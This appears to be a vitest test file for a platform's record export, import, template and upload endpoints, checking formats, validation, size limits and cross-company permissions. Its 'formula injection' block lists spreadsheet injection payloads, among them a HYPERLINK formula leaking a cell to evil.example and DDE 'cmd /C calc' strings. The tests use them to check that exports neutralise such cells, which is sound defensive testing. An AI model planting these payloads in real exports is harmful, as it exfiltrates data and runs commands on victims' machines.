import { ERROR_CODES, type FieldDef, type RecordValues } from '@platform/domain';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, buildTestApp, makeCompany, type TestApp, type TestCompany } from '../../test/helper';
import { makeItem, setPermissions } from '../cabin/test-support';
import { makeJpeg, makePng } from '../users/test-support';
import { IMPORT_MAX_ROWS } from './file-routes';
import { makeRecords, multipartForm, recordsOf } from './test-support';

let t: TestApp;
let a: TestCompany;
let b: TestCompany;

beforeAll(async () => {
  t = await buildTestApp();
  a = await makeCompany(t, 'Files A');
  b = await makeCompany(t, 'Files B');
});

afterAll(async () => {
  await t.close();
});

const FIELDS: FieldDef[] = [
  { key: 'f1', name: '温度', unit: '℃', type: 1, decimals: 2 },
  { key: 'f2', name: 'count', type: 10, required: true },
  { key: 'f3', name: 'note', type: 5 },
  { key: 'f4', name: 'checked', type: 4, dateFormat: 'yyyy-MM-dd HH:mm:ss' },
  { key: 'f5', name: 'price', type: 2 },
];

const ROWS: { ts: string; values: RecordValues }[] = [
  {
    ts: '2026-03-01T00:00:00Z',
    values: { f1: 21.5, f2: 3, f3: '锅炉, "一号"', f4: '2026-03-01T02:00:00.000Z', f5: 12.3 },
  },
  { ts: '2026-03-01T01:30:15Z', values: { f1: -0.25, f2: 0, f3: 'line one\nline two', f4: null, f5: 1000 } },
  { ts: '2026-03-02T16:00:00Z', values: { f1: null, f2: 7, f3: '', f5: 0.5 } },
];

async function itemWith(level?: 0 | 1 | 2 | 3, fields: FieldDef[] = FIELDS) {
  const made = await makeItem(t, a.id, { fields, name: `仪表 ${Math.random().toString(36).slice(2, 8)}` });
  if (level !== undefined) {
    await setPermissions(t, made.nodeId, [{ scope: 'user', subjectId: a.limited.id, level }]);
  }
  return made;
}

function exportFile(token: string, query: Record<string, string | number>) {
  const qs = new URLSearchParams(Object.entries(query).map(([k, v]): [string, string] => [k, String(v)]));
  return t.app.inject({
    method: 'GET',
    url: `/general/smartdata/record/export?${qs}`,
    headers: bearer(token),
  });
}

function importFile(token: string, itemId: number, bytes: Buffer, filename = 'data.csv') {
  const { payload, headers } = multipartForm({ itemId }, { bytes, filename });
  return t.app.inject({
    method: 'POST',
    url: '/general/smartdata/record/import',
    payload,
    headers: { ...headers, ...bearer(token) },
  });
}

function upload(
  token: string,
  fields: Record<string, string | number>,
  bytes?: Buffer,
  filename = 'photo.png',
) {
  const { payload, headers } = multipartForm(fields, bytes && { bytes, filename });
  return t.app.inject({
    method: 'POST',
    url: '/general/smartdata/record/upload',
    payload,
    headers: { ...headers, ...bearer(token) },
  });
}

/** what a record keeps: its time and values (ids, sources and authors differ after import) */
async function contentOf(itemId: number) {
  return (await recordsOf(t, itemId))
    .map((r) => ({ ts: r.ts.toISOString(), values: r.values }))
    .sort((x, y) => x.ts.localeCompare(y.ts));
}

const normalised = ROWS.map((r) => ({
  ts: new Date(r.ts).toISOString(),
  // empty text and missing values both read back as null
  values: Object.fromEntries(
    FIELDS.map((f) => {
      const v = (r.values as Record<string, unknown>)[f.key];
      return [f.key, v === '' || v === undefined ? null : v];
    }),
  ),
}));

describe('record export', () => {
  it('writes CSV with a BOM, time then field names with units, values formatted, oldest first', async () => {
    const { itemId } = await itemWith(1);
    await makeRecords(t, a.id, itemId, ROWS);
    const res = await exportFile(a.limited.token, { itemId, format: 'csv' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const disposition = String(res.headers['content-disposition']);
    expect(disposition).toMatch(/^attachment; filename="[\x20-\x7e]+\.csv"; filename\*=UTF-8''/);
    expect(decodeURIComponent(disposition.split("UTF-8''")[1]!)).toMatch(/^仪表 \w+-\d{8}-\d{6}\.csv$/);
    const bytes = res.rawPayload;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.subarray(3).toString('utf8').split('\n');
    expect(lines[0]).toBe('时间,温度(℃),count,note,checked,price');
    // Shanghai wall time; decimals with the field's places, currency with 2
    expect(lines[1]).toBe('2026-03-01 08:00:00,21.5,3,"锅炉, ""一号""",2026-03-01 10:00:00,12.3');
  });

  it('keeps number cells numbers in XLSX and follows the window and filters', async () => {
    const { itemId } = await itemWith();
    await makeRecords(t, a.id, itemId, ROWS);
    const res = await exportFile(a.admin.token, {
      itemId,
      format: 'xlsx',
      from: '2026-03-01T01:00:00Z',
      filters: JSON.stringify([{ field: 'f2', op: 'ge', value: 0 }]),
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.rowCount).toBe(3);
    expect(sheet.getRow(1).values).toEqual([
      undefined,
      '时间',
      '温度(℃)',
      'count',
      'note',
      'checked',
      'price',
    ]);
    expect(sheet.getRow(2).getCell(2).value).toBe(-0.25);
    expect(sheet.getRow(2).getCell(3).value).toBe(0);
    expect(sheet.getRow(3).getCell(1).value).toBe('2026-03-03 00:00:00');
    expect(sheet.getRow(3).getCell(6).value).toBe(0.5);
    expect(sheet.getRow(3).getCell(6).numFmt).toBe('0.00');
  });

  describe('formula injection', () => {
    const FORMULAS = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=cmd|' /C calc'!A0",
      "\r=cmd|' /C calc'!A0",
    ];
    const rows = FORMULAS.map((f3, i) => ({
      ts: `2026-05-01T00:0${i}:00Z`,
      values: { f1: -5, f2: i, f3, f5: -1 },
    }));

    it('a text value that is a spreadsheet formula is exported to CSV as quoted text, negative numbers stay numbers', async () => {
      const { itemId } = await itemWith();
      await makeRecords(t, a.id, itemId, rows);
      const res = await exportFile(a.admin.token, { itemId, format: 'csv' });
      const text = res.rawPayload.subarray(3).toString('utf8');
      const lines = text.split('\n');
      // the raw bytes: the cell is quoted and starts with a single quote
      expect(lines[1]).toBe(`2026-05-01 08:00:00,-5,0,"'${FORMULAS[0]!.replaceAll('"', '""')}",,-1`);
      expect(lines[2]).toBe(`2026-05-01 08:01:00,-5,1,"'+cmd|' /C calc'!A0",,-1`);
      // what a spreadsheet reads: no cell of the file begins with a formula sign
      const { parse } = await import('csv-parse/sync');
      const cells: string[][] = parse(text, { relax_column_count: true });
      expect(cells.slice(1).map((r) => r[3])).toEqual(FORMULAS.map((f) => `'${f}`));
      for (const cell of cells.flat()) {
        if (cell === '-5' || cell === '-1') continue;
        expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
      }
      expect(cells.slice(1).map((r) => [r[1], r[5]])).toEqual(FORMULAS.map(() => ['-5', '-1']));
    });

    it('a CSV export with neutralised formulas imports back to the original values', async () => {
      const source = await itemWith();
      await makeRecords(t, a.id, source.itemId, [
        ...rows,
        { ts: '2026-05-02T00:00:00Z', values: { f1: 1, f2: 9, f3: "'=already quoted" } },
        { ts: '2026-05-02T00:01:00Z', values: { f1: 1, f2: 10, f3: "'plain quote" } },
        { ts: '2026-05-02T00:02:00Z', values: { f1: 1, f2: 11, f3: '-5' } },
      ]);
      const file = (await exportFile(a.admin.token, { itemId: source.itemId, format: 'csv' })).rawPayload;
      const target = await itemWith();
      const res = await importFile(a.admin.token, target.itemId, file);
      expect(res.json()).toMatchObject({ code: 0, data: { inserted: rows.length + 3, rejected: [] } });
      const notes = (await contentOf(target.itemId)).map((r) => r.values.f3);
      expect(notes).toEqual([...FORMULAS, "'=already quoted", "'plain quote", '-5']);
      const numbers = (await contentOf(target.itemId)).slice(0, FORMULAS.length).map((r) => r.values.f1);
      expect(numbers).toEqual(FORMULAS.map(() => -5));
    });

    it('XLSX keeps formulas as plain text cells (no formula in the workbook)', async () => {
      const { itemId } = await itemWith();
      await makeRecords(t, a.id, itemId, rows);
      const res = await exportFile(a.admin.token, { itemId, format: 'xlsx' });
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
      const sheet = book.worksheets[0]!;
      for (let r = 2; r <= FORMULAS.length + 1; r += 1) {
        const cell = sheet.getRow(r).getCell(4);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        // (XML reads a carriage return back as a line feed)
        expect(cell.value).toBe(FORMULAS[r - 2]!.replace('\r', '\n'));
        expect(sheet.getRow(r).getCell(2).value).toBe(-5);
      }
    });
  });

  it('heads the time column in English for English callers', async () => {
    const { itemId } = await itemWith();
    const res = await t.app.inject({
      method: 'GET',
      url: `/general/smartdata/record/export?itemId=${itemId}&format=csv`,
      headers: { ...bearer(a.admin.token), 'accept-language': 'en' },
    });
    expect(res.rawPayload.subarray(3).toString('utf8').split('\n')[0]).toBe(
      'Time,温度(℃),count,note,checked,price',
    );
  });

  it('names bad parameters and refuses callers without read permission or of another company', async () => {
    const { itemId } = await itemWith(0);
    expect((await exportFile(a.admin.token, { itemId, format: 'pdf' })).json()).toMatchObject({
      code: ERROR_CODES.VALIDATION,
      data: { field: 'format' },
    });
    expect(
      (await exportFile(a.admin.token, { itemId, format: 'csv', filters: '[{"field":"x"}]' })).json(),
    ).toMatchObject({ code: ERROR_CODES.VALIDATION, data: { field: 'filters' } });
    for (const token of [a.limited.token, b.admin.token]) {
      expect((await exportFile(token, { itemId, format: 'csv' })).json()).toMatchObject({
        code: ERROR_CODES.NOT_FOUND,
        data: { field: 'itemId' },
      });
    }
  });
});

describe('record import', () => {
  for (const format of ['csv', 'xlsx'] as const) {
    it(`imports its own ${format.toUpperCase()} export back to the same values`, async () => {
      const source = await itemWith();
      await makeRecords(t, a.id, source.itemId, ROWS);
      const file = (await exportFile(a.admin.token, { itemId: source.itemId, format })).rawPayload;
      const target = await itemWith(2);
      const res = await importFile(a.limited.token, target.itemId, file, `export.${format}`);
      expect(res.json()).toMatchObject({ code: 0, data: { total: 3, inserted: 3, rejected: [] } });
      expect(await contentOf(target.itemId)).toEqual(normalised);
      const rows = await recordsOf(t, target.itemId);
      expect(rows.every((r) => r.source === 'import' && r.createdBy === a.limited.id)).toBe(true);
    });
  }

  it('writes the good rows and reports the bad ones by the row numbers of the file', async () => {
    const { itemId } = await itemWith();
    const csv = [
      'count,温度（℃）,note,时间',
      '1,20.5,ok,2026-04-01 08:00:00',
      'two,1,bad count,2026-04-01 09:00:00',
      '',
      '3,hot,bad temperature,2026-04-01 10:00:00',
      ',5,missing required count,2026-04-01 11:00:00',
      '5,6,bad time,the day after',
      '"6",7,"quoted, with comma",2026/04/02',
    ].join('\r\n');
    const res = await importFile(a.admin.token, itemId, Buffer.from(csv));
    expect(res.json().code).toBe(0);
    const { total, inserted, rejected } = res.json().data;
    expect({ total, inserted }).toEqual({ total: 6, inserted: 2 });
    expect(rejected.map((r: { row: number; field: string }) => [r.row, r.field])).toEqual([
      [3, 'f2'],
      [5, 'f1'],
      [6, 'f2'],
      [7, 'ts'],
    ]);
    // the reason stands beside the field's column: it does not repeat the field's name
    expect(rejected.map((r: { message: string }) => r.message)).toEqual([
      '必须是数字',
      '必须是数字',
      '不能为空',
      '必须是有效的日期时间',
    ]);
    expect(await contentOf(itemId)).toEqual([
      { ts: '2026-04-01T00:00:00.000Z', values: { f1: 20.5, f2: 1, f3: 'ok' } },
      { ts: '2026-04-01T16:00:00.000Z', values: { f1: 7, f2: 6, f3: 'quoted, with comma' } },
    ]);
  });

  it('words rejections in English without the field name too', async () => {
    const { itemId } = await itemWith();
    const csv = Buffer.from('count,温度\n1.5,1\n2,warm\n');
    const { payload, headers } = multipartForm({ itemId }, { bytes: csv, filename: 'data.csv' });
    const res = await t.app.inject({
      method: 'POST',
      url: '/general/smartdata/record/import',
      payload,
      headers: { ...headers, ...bearer(a.admin.token), 'accept-language': 'en' },
    });
    expect(res.json().data.rejected).toEqual([
      { row: 2, field: 'f2', message: 'must be an integer' },
      { row: 3, field: 'f1', message: 'must be a number' },
    ]);
  });

  it('refuses files that are not CSV or XLSX, unknown columns and too many rows, writing nothing', async () => {
    const { itemId } = await itemWith();
    const png = await makePng(10, 10);
    const gbk = Buffer.from([0x63, 0x6f, 0x75, 0x6e, 0x74, 0x0a, 0xce, 0xc2, 0xb6, 0xc8, 0x0a]);
    const brokenZip = Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(100, 1)]);
    for (const bytes of [png, gbk, brokenZip]) {
      expect((await importFile(a.admin.token, itemId, bytes)).json()).toMatchObject({
        code: ERROR_CODES.VALIDATION,
        data: { field: 'file' },
      });
    }
    const unknown = await importFile(a.admin.token, itemId, Buffer.from('count,pressure\n1,2\n'));
    expect(unknown.json()).toMatchObject({
      code: ERROR_CODES.VALIDATION,
      data: { field: 'file', column: 'pressure' },
    });
    expect(unknown.json().message).toContain('pressure');
    const twice = await importFile(a.admin.token, itemId, Buffer.from('count,f2\n1,2\n'));
    expect(twice.json()).toMatchObject({ code: ERROR_CODES.VALIDATION, data: { column: 'f2' } });
    const many = Buffer.from(`count\n${'1\n'.repeat(IMPORT_MAX_ROWS + 1)}`);
    const tooMany = await importFile(a.admin.token, itemId, many);
    expect(tooMany.json()).toMatchObject({ code: ERROR_CODES.VALIDATION, data: { field: 'file' } });
    expect(tooMany.json().message).toContain(String(IMPORT_MAX_ROWS));
    const big = await importFile(a.admin.token, itemId, Buffer.alloc(10 * 1024 * 1024 + 10, 0x31));
    expect(big.json()).toMatchObject({ code: ERROR_CODES.VALIDATION, data: { field: 'file' } });
    expect(await recordsOf(t, itemId)).toHaveLength(0);
  });

  it('refuses read-only (40300), no permission and another company (40400)', async () => {
    const csv = Buffer.from('count\n1\n');
    const readOnly = await itemWith(1);
    expect((await importFile(a.limited.token, readOnly.itemId, csv)).json().code).toBe(ERROR_CODES.FORBIDDEN);
    const none = await itemWith(0);
    for (const token of [a.limited.token, b.admin.token]) {
      expect((await importFile(token, none.itemId, csv)).json()).toMatchObject({
        code: ERROR_CODES.NOT_FOUND,
        data: { field: 'itemId' },
      });
    }
    expect(await recordsOf(t, readOnly.itemId)).toHaveLength(0);
    expect(await recordsOf(t, none.itemId)).toHaveLength(0);
  });
});

describe('import template', () => {
  function template(token: string, query: Record<string, string | number>, lang = 'zh') {
    const qs = new URLSearchParams(Object.entries(query).map(([k, v]): [string, string] => [k, String(v)]));
    return t.app.inject({
      method: 'GET',
      url: `/general/smartdata/record/template?${qs}`,
      headers: { ...bearer(token), 'accept-language': lang },
    });
  }

  const ZH_NOTES = [
    '记录时间，格式 yyyy-MM-dd HH:mm:ss，留空为导入时间',
    '小数，2 位小数，单位 ℃',
    '整数，必填',
    '文本',
    '日期时间，格式 yyyy-MM-dd HH:mm:ss',
    '货币，2 位小数',
  ];

  it('XLSX: the header the import reads, a note on each column, instructions; filled, it imports back', async () => {
    const { itemId } = await itemWith(1);
    const res = await template(a.limited.token, { itemId, format: 'xlsx' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    expect(decodeURIComponent(String(res.headers['content-disposition']).split("UTF-8''")[1]!)).toMatch(
      /-导入模板\.xlsx$/,
    );
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    const rowValues = (n: number) => (sheet.getRow(n).values as unknown[]).slice(1);
    expect(rowValues(1)).toEqual(['时间', '温度(℃)', 'count', 'note', 'checked', 'price']);
    expect(rowValues(2)).toEqual(ZH_NOTES);
    expect(sheet.rowCount).toBe(2);
    expect(book.worksheets[1]!.getCell('A1').value).toMatch(/第 1 行是表头/);

    // filled in as a person would, the note row left in place
    sheet.addRow(['2026-05-01 08:00:00', 21.456, 3, '一号', '2026-05-01 09:00:00', 12]);
    sheet.addRow(['', 1, 'x', '', '', '']);
    sheet.addRow([null, null, 4, null, null, null]);
    const filled = Buffer.from(await book.xlsx.writeBuffer());
    const writable = await itemWith(2);
    const imported = await importFile(a.limited.token, writable.itemId, filled, 'template.xlsx');
    expect(imported.json()).toMatchObject({
      code: 0,
      data: { total: 3, inserted: 2, rejected: [{ row: 4, field: 'f2', message: '必须是数字' }] },
    });
    const rows = (await recordsOf(t, writable.itemId)).sort((x, y) => x.id - y.id);
    expect(rows.map((r) => r.values)).toEqual([
      { f1: 21.46, f2: 3, f3: '一号', f4: '2026-05-01T01:00:00.000Z', f5: 12 },
      { f1: null, f2: 4, f3: null, f4: null, f5: null },
    ]);
    expect(rows[0]!.ts.toISOString()).toBe('2026-05-01T00:00:00.000Z');
  });

  it('CSV in English: header and notes; the note row is skipped on import, with or without it', async () => {
    const { itemId } = await itemWith();
    const res = await template(a.admin.token, { itemId, format: 'csv' }, 'en');
    expect(res.headers['content-type']).toContain('text/csv');
    const text = res.rawPayload.toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const lines = text.slice(1).trimEnd().split(/\r?\n/);
    expect(lines).toEqual([
      'Time,温度(℃),count,note,checked,price',
      '"Record time, format yyyy-MM-dd HH:mm:ss; empty: the time of the import",Decimal; 2 decimal places; unit ℃,Integer; required,Text,Date and time; format yyyy-MM-dd HH:mm:ss,Currency; 2 decimal places',
    ]);
    const withNote = Buffer.from(`${text}2026-05-02 08:00:00,1,2,a,,\n`);
    const first = await importFile(a.admin.token, itemId, withNote);
    expect(first.json()).toMatchObject({ code: 0, data: { total: 1, inserted: 1, rejected: [] } });
    // a Chinese template into the same item: its note row is known too
    const zh = (await template(a.admin.token, { itemId, format: 'csv' })).rawPayload.toString('utf8');
    const second = await importFile(a.admin.token, itemId, Buffer.from(`${zh},,7,,,\n`));
    expect(second.json()).toMatchObject({ code: 0, data: { total: 1, inserted: 1, rejected: [] } });
    // a note in a wrong column is data, and rejected as such
    const shifted = `时间,count\n,${ZH_NOTES[1]}\n`;
    const third = await importFile(a.admin.token, itemId, Buffer.from(shifted));
    expect(third.json().data).toMatchObject({ total: 1, inserted: 0, rejected: [{ row: 2, field: 'f2' }] });
    expect(await recordsOf(t, itemId)).toHaveLength(2);
  });

  it('names a bad format, refuses no permission and another company (40400)', async () => {
    const { itemId } = await itemWith(0);
    expect((await template(a.admin.token, { itemId, format: 'pdf' })).json()).toMatchObject({
      code: ERROR_CODES.VALIDATION,
      data: { field: 'format' },
    });
    for (const token of [a.limited.token, b.admin.token]) {
      const res = await template(token, { itemId, format: 'xlsx' });
      expect(res.json()).toMatchObject({ code: ERROR_CODES.NOT_FOUND, data: { field: 'itemId' } });
      expect(res.body).not.toContain('温度');
    }
  });
});

describe('record upload', () => {
  const FILE_FIELDS: FieldDef[] = [
    { key: 'f1', name: 'photo', type: 8 },
    { key: 'f2', name: 'manual', type: 9 },
    { key: 'f3', name: 'note', type: 5 },
  ];

  it('stores a picture with a 150 px thumbnail and a file as sent; the values add to a record', async () => {
    const { itemId } = await itemWith(2, FILE_FIELDS);
    const picture = await upload(
      a.limited.token,
      { itemId, field: 'f1' },
      await makePng(600, 300),
      'site.png',
    );
    expect(picture.json()).toMatchObject({ code: 0, data: { name: 'site.png' } });
    const stored = picture.json().data;
    const thumb = await t.app.inject({ method: 'GET', url: stored.thumbUrl });
    expect(thumb.statusCode).toBe(200);
    const sharp = (await import('sharp')).default;
    expect(await sharp(thumb.rawPayload).metadata()).toMatchObject({ width: 150, height: 75 });
    const pdf = Buffer.from('%PDF-1.4 a manual');
    const file = await upload(a.limited.token, { itemId, field: 'manual' }, pdf, 'guide.pdf');
    expect(file.json()).toMatchObject({ code: 0, data: { name: 'guide.pdf', size: pdf.length } });
    expect((await t.app.inject({ method: 'GET', url: file.json().data.url })).rawPayload).toEqual(pdf);
    const add = await t.app.inject({
      method: 'POST',
      url: '/general/smartdata/record/add',
      payload: { itemId, values: { f1: [stored], f2: [file.json().data] } },
      headers: bearer(a.limited.token),
    });
    expect(add.json().code).toBe(0);
  });

  it("answers the spec's messages for a wrong picture format or size, and checks the field", async () => {
    const { itemId } = await itemWith(undefined, FILE_FIELDS);
    const asText = await upload(a.admin.token, { itemId, field: 'f1' }, Buffer.from('not an image'), 'x.png');
    expect(asText.json()).toMatchObject({ code: ERROR_CODES.VALIDATION, data: { field: 'file' } });
    expect(asText.json().message).toContain('JPG');
    const big = Buffer.concat([await makeJpeg(20, 20), Buffer.alloc(3 * 1024 * 1024)]);
    const tooBig = await upload(a.admin.token, { itemId, field: 'f1' }, big, 'big.jpg');
    expect(tooBig.json()).toMatchObject({ code: ERROR_CODES.VALIDATION, data: { field: 'file' } });
    expect(tooBig.json().message).toContain('3M');
    const hugeFile = await upload(
      a.admin.token,
      { itemId, field: 'f2' },
      Buffer.alloc(20 * 1024 * 1024 + 5),
      'x.bin',
    );
    expect(hugeFile.json()).toMatchObject({ code: ERROR_CODES.VALIDATION, data: { field: 'file' } });
    expect(hugeFile.json().message).toContain('20M');
    const text = await upload(a.admin.token, { itemId, field: 'f3' }, await makePng(5, 5));
    expect(text.json()).toMatchObject({ code: ERROR_CODES.VALIDATION, data: { field: 'field' } });
    const unknown = await upload(a.admin.token, { itemId, field: 'f9' }, await makePng(5, 5));
    expect(unknown.json()).toMatchObject({ code: ERROR_CODES.VALIDATION, data: { field: 'field' } });
    const noFile = await upload(a.admin.token, { itemId, field: 'f1' });
    expect(noFile.json()).toMatchObject({ code: ERROR_CODES.VALIDATION, data: { field: 'file' } });
  });

  it('refuses read-only (40300), no permission and another company (40400)', async () => {
    const png = await makePng(5, 5);
    const readOnly = await itemWith(1, FILE_FIELDS);
    expect((await upload(a.limited.token, { itemId: readOnly.itemId, field: 'f1' }, png)).json().code).toBe(
      ERROR_CODES.FORBIDDEN,
    );
    const none = await itemWith(0, FILE_FIELDS);
    for (const token of [a.limited.token, b.admin.token]) {
      expect((await upload(token, { itemId: none.itemId, field: 'f1' }, png)).json()).toMatchObject({
        code: ERROR_CODES.NOT_FOUND,
        data: { field: 'itemId' },
      });
    }
  });
});
